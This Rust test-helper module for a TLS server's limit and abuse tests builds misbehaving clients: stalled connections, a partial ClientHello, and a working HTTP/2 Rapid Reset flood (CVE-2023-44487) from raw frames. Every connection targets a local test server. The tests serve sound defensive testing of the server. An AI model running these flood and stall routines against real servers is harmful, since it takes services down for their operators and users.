//! Clients that misbehave on purpose, for the limit and abuse tests: raw TCP and TLS
//! connections that stall, a real HTTP/2 client (the h2 crate over OpenSSL) that opens many
//! streams or resets them, and the configuration of `[server.limits]`.
#![allow(clippy::std_instead_of_core, clippy::std_instead_of_alloc)]
// Test code: a failed unwrap is a failed test.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::indexing_slicing)]

use std::io::{Read, Write};
use std::net::TcpStream;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use openssl::ssl::{SslConnector, SslFiletype, SslMethod, SslStream};

use crate::server::TestPki;

/// `config` (a test `certbind.toml`) with `[server.limits]` set to `table` (TOML lines) and,
/// when given, the mTLS listener's own `max_connections`.
#[must_use]
pub fn with_limits(config: &str, table: &str, mtls_max_connections: Option<usize>) -> String {
    let mut config = config.replacen(
        "[server.keys]",
        &format!("[server.limits]\n{table}\n\n[server.keys]"),
        1,
    );
    if let Some(max) = mtls_max_connections {
        config = config.replacen(
            "kind = \"mtls\"\n",
            &format!("kind = \"mtls\"\nmax_connections = {max}\n"),
            1,
        );
    }
    config
}

/// A TLS connector trusting the test CA, presenting `<identity>.pem` when given, offering
/// `alpn` (wire format, e.g. `b"\x08http/1.1"`).
#[must_use]
pub fn connector(pki: &TestPki, identity: Option<&str>, alpn: &[u8]) -> SslConnector {
    let identity = identity.map(|name| (pki.cert_path(name), pki.key_path(name)));
    connector_from(&pki.cert_path("ca"), identity.as_ref(), alpn)
}

/// A TLS connector trusting `ca`, presenting `identity` (certificate chain and key files).
#[must_use]
pub fn connector_from(
    ca: &Path,
    identity: Option<&(PathBuf, PathBuf)>,
    alpn: &[u8],
) -> SslConnector {
    let mut b = SslConnector::builder(SslMethod::tls_client()).unwrap();
    b.set_ca_file(ca).unwrap();
    if let Some((cert, key)) = identity {
        b.set_certificate_chain_file(cert).unwrap();
        b.set_private_key_file(key, SslFiletype::PEM).unwrap();
    }
    b.set_alpn_protos(alpn).unwrap();
    b.build()
}

/// A blocking TLS connection to `127.0.0.1:port` (HTTP/1.1), reads timing out after 20 s.
#[must_use]
pub fn tls_connect(pki: &TestPki, port: u16, identity: Option<&str>) -> SslStream<TcpStream> {
    let tcp = TcpStream::connect(("127.0.0.1", port)).unwrap();
    tcp.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
    connector(pki, identity, b"\x08http/1.1")
        .connect("localhost", tcp)
        .unwrap()
}

/// Reads until the peer closes (or 20 s pass): what it sent, and whether it closed.
pub fn read_to_close(stream: &mut impl Read) -> (Vec<u8>, bool) {
    let mut out = Vec::new();
    let mut buf = [0_u8; 4096];
    loop {
        match stream.read(&mut buf) {
            Ok(0) => return (out, true),
            Ok(n) => out.extend_from_slice(&buf[..n]),
            Err(e) if e.kind() == std::io::ErrorKind::ConnectionReset => return (out, true),
            Err(e)
                if matches!(
                    e.kind(),
                    std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut
                ) =>
            {
                return (out, false);
            }
            // A TLS stream reports the peer's close or reset as an error too.
            Err(_) => return (out, true),
        }
    }
}

/// Writes `bytes` (a test's request, whole or in part).
pub fn send(stream: &mut impl Write, bytes: &[u8]) {
    stream.write_all(bytes).unwrap();
    stream.flush().unwrap();
}

/// The first bytes of a TLS ClientHello record (type, version, length, handshake type): a
/// handshake that starts and never finishes.
pub const PARTIAL_CLIENT_HELLO: &[u8] = &[0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xfc];

/// Waits until `done` holds (polling every 20 ms), panicking with `what` after `limit`.
pub fn wait_until(what: &str, limit: Duration, mut done: impl FnMut() -> bool) {
    let start = Instant::now();
    while !done() {
        assert!(start.elapsed() < limit, "{what}: not within {limit:?}");
        std::thread::sleep(Duration::from_millis(20));
    }
}

/// An HTTP/2 connection (ALPN `h2`) presenting `<identity>.pem`: the h2 client and the task
/// that drives the connection (its result says how the server ended it).
pub async fn h2_connect(
    pki: &TestPki,
    port: u16,
    identity: Option<&str>,
) -> (
    h2::client::SendRequest<bytes::Bytes>,
    tokio::task::JoinHandle<Result<(), h2::Error>>,
) {
    let tcp = tokio::net::TcpStream::connect(("127.0.0.1", port))
        .await
        .unwrap();
    let ssl = connector(pki, identity, b"\x02h2")
        .configure()
        .unwrap()
        .into_ssl("localhost")
        .unwrap();
    let mut tls = tokio_openssl::SslStream::new(ssl, tcp).unwrap();
    std::pin::Pin::new(&mut tls).connect().await.unwrap();
    assert_eq!(tls.ssl().selected_alpn_protocol(), Some(&b"h2"[..]));
    let (client, connection) = h2::client::handshake(tls).await.unwrap();
    (client, tokio::spawn(connection))
}

/// A token request's head for HTTP/2 (the body is sent separately).
#[must_use]
pub fn h2_token_request(port: u16, body_length: usize) -> http::Request<()> {
    http::Request::builder()
        .method("POST")
        .uri(format!("https://localhost:{port}/connect/token"))
        .header("content-type", "application/x-www-form-urlencoded")
        .header("content-length", body_length)
        .body(())
        .unwrap()
}

/// How a rapid-reset flood ended.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RapidReset {
    /// Streams opened and reset (HEADERS then RST_STREAM, written together).
    pub sent: u32,
    /// The error code of the server's GOAWAY, if it sent one.
    pub goaway: Option<u32>,
    /// Responses (HEADERS frames) the server sent back meanwhile.
    pub responses: u32,
}

/// One HTTP/2 frame: length, type, flags, stream id, payload (RFC 9113 §4.1).
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = u32::try_from(payload.len()).unwrap();
    let mut f = len.to_be_bytes()[1..].to_vec();
    f.extend([kind, flags]);
    f.extend(stream.to_be_bytes());
    f.extend(payload);
    f
}

/// The HPACK block of `POST /connect/token` with a form content type, literals only (RFC 7541
/// §6.1 indexed static entries, §6.2.2 literals without indexing of static names).
fn token_request_block() -> Vec<u8> {
    let mut block = vec![0x83, 0x87]; // :method POST, :scheme https
    for (name_index, value) in [
        (4_u8, &b"/connect/token"[..]),
        (1, b"localhost"),
        (31, b"application/x-www-form-urlencoded"),
    ] {
        if name_index < 15 {
            block.push(name_index);
        } else {
            block.extend([0x0f, name_index - 15]);
        }
        block.push(u8::try_from(value.len()).unwrap());
        block.extend(value);
    }
    block
}

/// CVE-2023-44487 with raw frames over TLS (ALPN `h2`): opens `streams` token requests on one
/// connection, each HEADERS immediately followed by RST_STREAM(CANCEL) in the same write,
/// `batch` streams per write, and reads what the server sends until it ends the connection or
/// `streams` have been sent (then waits up to 5 s more).
pub async fn rapid_reset(
    pki: &TestPki,
    port: u16,
    identity: Option<&str>,
    streams: u32,
    batch: u32,
) -> RapidReset {
    use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
    let tcp = tokio::net::TcpStream::connect(("127.0.0.1", port))
        .await
        .unwrap();
    let ssl = connector(pki, identity, b"\x02h2")
        .configure()
        .unwrap()
        .into_ssl("localhost")
        .unwrap();
    let mut tls = tokio_openssl::SslStream::new(ssl, tcp).unwrap();
    std::pin::Pin::new(&mut tls).connect().await.unwrap();
    let (mut reader, mut writer) = tokio::io::split(tls);
    // The reader: acknowledges the server's SETTINGS (through the channel), counts responses,
    // and returns the GOAWAY code.
    let (ack_tx, mut ack_rx) = tokio::sync::mpsc::unbounded_channel::<()>();
    let read = tokio::spawn(async move {
        let (mut goaway, mut responses) = (None, 0_u32);
        let mut head = [0_u8; 9];
        while reader.read_exact(&mut head).await.is_ok() {
            let len = usize::from(head[0]) << 16 | usize::from(head[1]) << 8 | usize::from(head[2]);
            let mut payload = vec![0_u8; len];
            if reader.read_exact(&mut payload).await.is_err() {
                break;
            }
            match head[3] {
                0x1 => responses += 1,
                0x4 if head[4] & 1 == 0 => {
                    let _ = ack_tx.send(());
                }
                0x7 if payload.len() >= 8 => {
                    goaway = Some(u32::from_be_bytes(payload[4..8].try_into().unwrap()));
                }
                _ => {}
            }
        }
        (goaway, responses)
    });
    let mut out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    out.extend(frame(0x4, 0, 0, &[]));
    writer.write_all(&out).await.unwrap();
    let block = token_request_block();
    let mut sent = 0_u32;
    'flood: while sent < streams {
        let mut out = Vec::new();
        while ack_rx.try_recv().is_ok() {
            out.extend(frame(0x4, 0x1, 0, &[]));
        }
        for _ in 0..batch.min(streams - sent) {
            let id = 2 * sent + 1;
            out.extend(frame(0x1, 0x4, id, &block));
            out.extend(frame(0x3, 0, id, &0x8_u32.to_be_bytes()));
            sent += 1;
        }
        if writer.write_all(&out).await.is_err() || writer.flush().await.is_err() {
            break 'flood;
        }
        if read.is_finished() {
            break 'flood;
        }
        tokio::task::yield_now().await;
    }
    let (goaway, responses) = tokio::time::timeout(Duration::from_secs(5), read)
        .await
        .map_or((None, 0), |r| r.unwrap());
    RapidReset {
        sent,
        goaway,
        responses,
    }
}
